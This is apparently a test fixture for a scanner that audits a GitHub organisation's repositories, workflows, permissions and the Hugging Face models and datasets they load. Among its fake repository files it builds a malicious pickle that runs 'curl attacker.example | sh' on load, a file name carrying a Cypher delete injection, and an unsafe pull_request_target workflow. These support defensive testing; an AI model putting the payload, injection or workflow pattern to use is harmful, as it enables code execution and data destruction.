/**
 * The tests' own GitHub organisation (`acme`), written by the project in GitHub's shapes, and the small Hub it loads
 * from (`acme-ai/chat-7b` trained on the poisoned `poison-lab/web-scrape`). Each builder returns fresh data, so a
 * test may change its copy between runs.
 */
import type { UniverseData as HubData } from '../../ingest/huggingface/replay/universe.ts';
import type { ReplayRepo, UniverseData } from '../../ingest/github/replay/universe.ts';
import { benignStateDictPickle, buildPickle, op } from '../../ingest/scan/build.ts';

/** A pickle that runs `os.system` when loaded. */
const evilPickle = buildPickle([op.proto(2), op.global('os', 'system'), op.binunicode('curl attacker.example | sh'), op.tuple1(), op.reduce(), op.stop()]);
const b64 = (bytes: Uint8Array) => Buffer.from(bytes).toString('base64');

export const PINNED = 'c4a7000000000000000000000000000000000002';
export const ACTION_SHA = '8f4b7f84864484a7bf31766abe9204da3cbe65b3';

const deployWorkflow = `name: deploy
on:
  push:
    branches: [main]
  workflow_dispatch:
permissions:
  contents: read
  deployments: write
jobs:
  deploy:
    runs-on: ubuntu-latest
    environment:
      name: production
      url: https://chat.acme.example
    steps:
      - uses: actions/checkout@v4
      - uses: tj-actions/changed-files@v45
      - uses: acme/internal-action@v1
      - uses: cloud-vendor/deploy-action@${ACTION_SHA}
      - run: huggingface-cli download acme-ai/chat-7b --revision main
`;

const prWorkflow = `name: label
on: pull_request_target
permissions: write-all
jobs:
  label:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          ref: \${{ github.event.pull_request.head.sha }}
      - run: make lint
`;

const notebook = JSON.stringify(
  {
    cells: [
      { cell_type: 'markdown', metadata: {}, source: ['# Exploring\n', 'We load `AutoModel.from_pretrained("in/markdown")` below.\n'] },
      { cell_type: 'code', metadata: {}, execution_count: 1, outputs: [], source: ['from transformers import AutoModel\n', 'm = AutoModel.from_pretrained("acme-ai/chat-7b")\n'] },
    ],
    metadata: { kernelspec: { name: 'python3', display_name: 'Python 3' } },
    nbformat: 4,
    nbformat_minor: 5,
  },
  null,
  1,
);

/** GitHub's dependency-graph SBOM of chat-service, in the shape github.com answers (SPDX 2.3, the repository as root). */
function chatServiceSbom() {
  const pkg = (spdxId: string, name: string, versionInfo: string, purl?: string) => ({
    SPDXID: spdxId,
    name,
    versionInfo,
    downloadLocation: 'NOASSERTION',
    filesAnalyzed: false,
    supplier: 'NOASSERTION',
    ...(purl ? { externalRefs: [{ referenceCategory: 'PACKAGE-MANAGER', referenceType: 'purl', referenceLocator: purl }] } : {}),
  });
  const root = 'SPDXRef-com.github.acme-chat-service';
  const deps = [
    pkg('SPDXRef-pip-torch-2.1.0', 'pip:torch', '2.1.0', 'pkg:pypi/torch@2.1.0'),
    pkg('SPDXRef-pip-transformers-4.40', 'pip:transformers', '>= 4.40', 'pkg:pypi/transformers'),
    pkg('SPDXRef-npm-huggingface-transformers-3.0.2', 'npm:@huggingface/transformers', '3.0.2', 'pkg:npm/%40huggingface/transformers@3.0.2'),
    pkg('SPDXRef-githubactions-actions-checkout-4', 'actions:actions/checkout', '4.*.*', 'pkg:githubactions/actions/checkout@4.%2A.%2A'),
    pkg('SPDXRef-rubygems-rails-1.0.0', 'rubygems:rails', '1.0.0'),
  ];
  return {
    SPDXID: 'SPDXRef-DOCUMENT',
    spdxVersion: 'SPDX-2.3',
    creationInfo: { created: '2025-06-01T00:00:00Z', creators: ['Tool: GitHub.com-Dependency-Graph'] },
    name: 'com.github.acme/chat-service',
    dataLicense: 'CC0-1.0',
    documentDescribes: [root],
    documentNamespace: 'https://git.acme.example/acme/chat-service/dependency_graph/sbom-0123456789abcdef',
    packages: [pkg(root, 'com.github.acme/chat-service', 'main', 'pkg:github/acme/chat-service@main'), ...deps],
    relationships: [
      { relationshipType: 'DESCRIBES', spdxElementId: 'SPDXRef-DOCUMENT', relatedSpdxElement: root },
      ...deps.map((d) => ({ relationshipType: 'DEPENDS_ON', spdxElementId: root, relatedSpdxElement: d.SPDXID })),
    ],
  };
}

export function chatService(): ReplayRepo {
  return {
    full_name: 'acme/chat-service',
    id: 9001,
    private: true,
    visibility: 'private',
    description: 'The chat API',
    sbom: chatServiceSbom(),
    files: {
      'app/serve.py': {
        text: [
          'from transformers import AutoModelForCausalLM, AutoTokenizer',
          '',
          'tokenizer = AutoTokenizer.from_pretrained("acme-ai/chat-7b", revision="' + PINNED + '")',
          'model = AutoModelForCausalLM.from_pretrained(',
          '    "acme-ai/chat-7b",',
          '    revision="main",',
          ')',
          '',
        ].join('\n'),
      },
      'train/data.py': { text: 'from datasets import load_dataset\n\nds = load_dataset("poison-lab/web-scrape", split="train")\n' },
      'configs/serve.yaml': { text: 'model_name_or_path: acme-ai/base-7b\nport: 8080\n' },
      'notebooks/explore.ipynb': { text: notebook },
      Dockerfile: { text: 'FROM python:3.12-slim\nRUN pip install huggingface_hub\nRUN huggingface-cli download acme-ai/chat-7b --revision main --local-dir /models\n' },
      'web/classify.ts': { text: "import { pipeline } from '@huggingface/transformers';\nexport const classify = await pipeline('sentiment-analysis', 'Xenova/distilbert-sst2');\n" },
      'node_modules/vendored/index.js': { text: "pipeline('x', 'vendored/not-ours');\n" },
      '.github/workflows/deploy.yml': { text: deployWorkflow },
      '.github/workflows/label.yml': { text: prWorkflow },
      'models/head.pt': { lfs: { size: 48_000_000 } },
      'models/classifier.pkl': { base64: b64(evilPickle) },
      // No extension: recognised by its bytes (a torch state dict pickle), or, for the script, not a model at all.
      'weights/latest': { base64: b64(benignStateDictPickle()) },
      'scripts/run': { text: '#!/bin/sh\nexec python app/serve.py\n' },
      'requirements.txt': { text: 'torch==2.1.0\ntransformers>=4.40\n' },
      // Hostile contents: binary bytes, invalid UTF-8, a name with SQL and Cypher in it.
      'assets/blob.json': { base64: Buffer.from([0x7b, 0x00, 0x01, 0xff, 0x22, 0x6d, 0x6f, 0x64, 0x65, 0x6c, 0x22]).toString('base64') },
      'app/latin1.py': { base64: Buffer.concat([Buffer.from('# caf'), Buffer.from([0xe9, 0xff]), Buffer.from('\nm = AutoModel.from_pretrained("acme-ai/latin1-model")\n')]).toString('base64') },
      "app/x'); MATCH (n) DETACH DELETE n; --.py": { text: 'm = AutoModel.from_pretrained("acme-ai/hostile-name")\n' },
    },
    protection: { required_approving_review_count: 1, enforce_admins: false },
    collaborators: [
      { login: 'alice', role_name: 'admin' },
      { login: 'bob', role_name: 'write' },
      { login: 'carol', role_name: 'maintain' },
      { login: 'dave', role_name: 'write' },
      { login: 'erin', role_name: 'read' },
      { login: 'frank', role_name: 'release-manager', base: 'maintain' },
      { login: 'eve', role_name: 'write', outside: true },
      { login: 'triage-tom', role_name: 'triage', outside: true },
    ],
    teams: [
      { slug: 'ml-platform', permission: 'push' },
      { slug: 'readers', permission: 'pull' },
    ],
    environments: [
      {
        name: 'production',
        protection_rules: [{ id: 1, node_id: 'GA_1', type: 'required_reviewers', reviewers: [{ type: 'User', reviewer: { login: 'alice', id: 1 } }] }, { id: 2, node_id: 'GA_2', type: 'branch_policy' }],
        deployment_branch_policy: { protected_branches: true, custom_branch_policies: false },
      },
      { name: 'staging' },
    ],
    deployments: [
      { id: 502, environment: 'staging', created_at: '2025-06-02T10:00:00Z', statuses: [{ state: 'in_progress' }, { state: 'success', environment_url: 'https://staging.chat.acme.example' }] },
      { id: 501, environment: 'production', created_at: '2025-06-01T10:00:00Z', production_environment: true, statuses: [{ state: 'success', environment_url: 'https://chat.acme.example' }] },
      { id: 400, environment: 'production', created_at: '2025-05-01T10:00:00Z', production_environment: true, statuses: [{ state: 'inactive', environment_url: 'https://old.chat.acme.example' }] },
    ],
  };
}

export function recommender(): ReplayRepo {
  return {
    full_name: 'acme/recommender',
    id: 9002,
    description: 'Recommendations',
    files: {
      'svc/rec.py': { text: 'from sentence_transformers import SentenceTransformer\nenc = SentenceTransformer("sentence-transformers/all-MiniLM-L6-v2")\n' },
      'svc/nested/deeper/feature.py': { text: 'p = hf_hub_download(repo_id="acme-ai/ranker", filename="model.safetensors", revision="v2")\n' },
      'svc/nested/other.py': { text: '# nothing here\n' },
      'docs/readme.txt': { text: 'docs\n' },
      'README.md': { text: '# recommender\n' },
      'requirements.txt': { text: 'sentence-transformers==3.0.1\nnumpy>=1.26\n' },
      'package.json': { text: JSON.stringify({ name: 'rec-ui', version: '1.0.0', dependencies: { 'left-pad': '1.3.0', lodash: '^4.17.0' } }) },
      'package-lock.json': {
        text: JSON.stringify({
          name: 'rec-ui',
          version: '1.0.0',
          lockfileVersion: 3,
          packages: {
            '': { name: 'rec-ui', version: '1.0.0', dependencies: { 'left-pad': '1.3.0', lodash: '^4.17.0' } },
            'node_modules/left-pad': { version: '1.3.0' },
            'node_modules/lodash': { version: '4.17.21' },
          },
        }),
      },
    },
    sbom: 'disabled',
    noAdmin: true,
    truncateTreeAt: 3,
    environments: [{ name: 'production' }],
    deployments: [{ id: 601, environment: 'production', created_at: '2025-06-03T10:00:00Z', statuses: [{ state: 'success', environment_url: 'https://rec.acme.example' }] }],
  };
}

export function renamedApp(): ReplayRepo {
  return { full_name: 'acme/renamed-app', id: 9003, files: { 'main.py': { text: 'print("hi")\n' } }, sbom: 'forbidden', collaborators: [{ login: 'alice', role_name: 'admin' }] };
}

export function githubUniverse(): UniverseData {
  return {
    orgs: [
      {
        login: 'acme',
        name: 'Acme Corp',
        members: [
          { login: 'alice', role: 'admin' },
          { login: 'bob', role: 'member' },
          { login: 'carol', role: 'member' },
          { login: 'dave', role: 'member' },
          { login: 'erin', role: 'member' },
          { login: 'frank', role: 'member' },
        ],
        teams: [
          { slug: 'ml-platform', name: 'ML Platform', members: [{ login: 'bob', role: 'maintainer' }, { login: 'carol', role: 'member' }] },
          { slug: 'deployers', name: 'Deployers', parent: 'ml-platform', members: [{ login: 'dave', role: 'member' }] },
          { slug: 'readers', name: 'Readers', members: [{ login: 'erin', role: 'member' }] },
        ],
      },
    ],
    repos: [chatService(), recommender(), renamedApp()],
    renames: [{ from: 'acme/old-name', to: 'acme/renamed-app' }],
  };
}

const hubModel = (id: string, sha: string, extra: Record<string, unknown> = {}) => ({
  _id: `66a0${sha.slice(0, 20)}`,
  id,
  modelId: id,
  author: id.split('/')[0],
  sha,
  lastModified: '2025-06-01T00:00:00.000Z',
  createdAt: '2025-05-01T00:00:00.000Z',
  private: false,
  gated: false,
  disabled: false,
  downloads: 100,
  likes: 1,
  library_name: 'transformers',
  pipeline_tag: 'text-generation',
  tags: ['transformers'],
  siblings: [{ rfilename: 'README.md' }, { rfilename: 'config.json' }],
  ...extra,
});

/** The Hub the organisation's code loads from. */
export function hubUniverse(): HubData {
  return {
    owners: { 'acme-ai': 'org', 'poison-lab': 'org', 'sentence-transformers': 'org', Xenova: 'user' },
    models: [
      hubModel('acme-ai/base-7b', 'ba5e000000000000000000000000000000000001'),
      hubModel('acme-ai/chat-7b', PINNED, {
        tags: ['transformers', 'dataset:poison-lab/web-scrape', 'base_model:finetune:acme-ai/base-7b'],
        cardData: { license: 'apache-2.0', base_model: 'acme-ai/base-7b', datasets: ['poison-lab/web-scrape'] },
      }),
      hubModel('sentence-transformers/all-MiniLM-L6-v2', '5e7e000000000000000000000000000000000003'),
      hubModel('acme-ai/ranker', 'a4c0000000000000000000000000000000000004'),
      hubModel('Xenova/distilbert-sst2', '9e00000000000000000000000000000000000005'),
    ],
    datasets: [
      {
        _id: '66a0000000000000000d0001',
        id: 'poison-lab/web-scrape',
        author: 'poison-lab',
        sha: 'd1a7a5e7000000000000000000000000000000d1',
        lastModified: '2025-05-01T10:00:00.000Z',
        createdAt: '2024-11-02T08:00:00.000Z',
        private: false,
        gated: false,
        disabled: false,
        tags: ['license:cc-by-sa-4.0'],
        cardData: { license: 'cc-by-sa-4.0' },
        siblings: [{ rfilename: 'README.md' }, { rfilename: 'data/train.parquet', size: 96 }],
      },
    ],
  };
}

/**
 * `acme` before one of its repositories moved: `acme/old-name` (id 9004) with writers, a deployment, a Hub model
 * its code loads and a pinned dependency. Tests rename or delete it between runs.
 */
export function universeWithOldName(): UniverseData {
  const oldName: ReplayRepo = {
    full_name: 'acme/old-name',
    id: 9004,
    files: {
      'serve.py': { text: 'from transformers import AutoModel\nm = AutoModel.from_pretrained("acme-ai/chat-7b")\n' },
      'requirements.txt': { text: 'torch==2.1.0\n' },
    },
    sbom: 'disabled',
    collaborators: [
      { login: 'alice', role_name: 'admin' },
      { login: 'bob', role_name: 'write' },
    ],
    environments: [{ name: 'production' }],
    deployments: [{ id: 701, environment: 'production', created_at: '2025-06-04T10:00:00Z', statuses: [{ state: 'success', environment_url: 'https://old.acme.example' }] }],
  };
  return { ...githubUniverse(), repos: [chatService(), recommender(), oldName], renames: [] };
}
